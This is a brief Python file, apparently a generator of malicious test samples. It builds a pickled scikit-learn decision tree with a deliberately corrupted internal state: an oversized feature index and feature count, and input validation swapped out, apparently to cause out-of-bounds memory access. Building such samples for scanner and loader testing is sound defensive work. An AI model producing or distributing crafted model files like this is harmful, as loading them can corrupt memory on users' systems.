"""A decision tree has another function where its data are looked at."""

from __future__ import annotations

from functools import partial
from typing import Any

import numpy as np
from sklearn.utils.validation import check_array

from malicious_samples.native_state import dumped, grown, regrown


def model() -> Any:
    model = grown()
    tree, args, state = regrown(model, feature={0: 1 << 29}).__reduce__()
    model.n_features_in_ = 1 << 30
    model.tree_ = tree(1 << 30, *args[1:])
    model.tree_.__setstate__(state)
    setattr(model, "_validate_X_predict", partial(check_array, dtype=np.float32))  # noqa: B010
    return model


def build(canary: str) -> bytes:
    del canary
    return dumped(model())
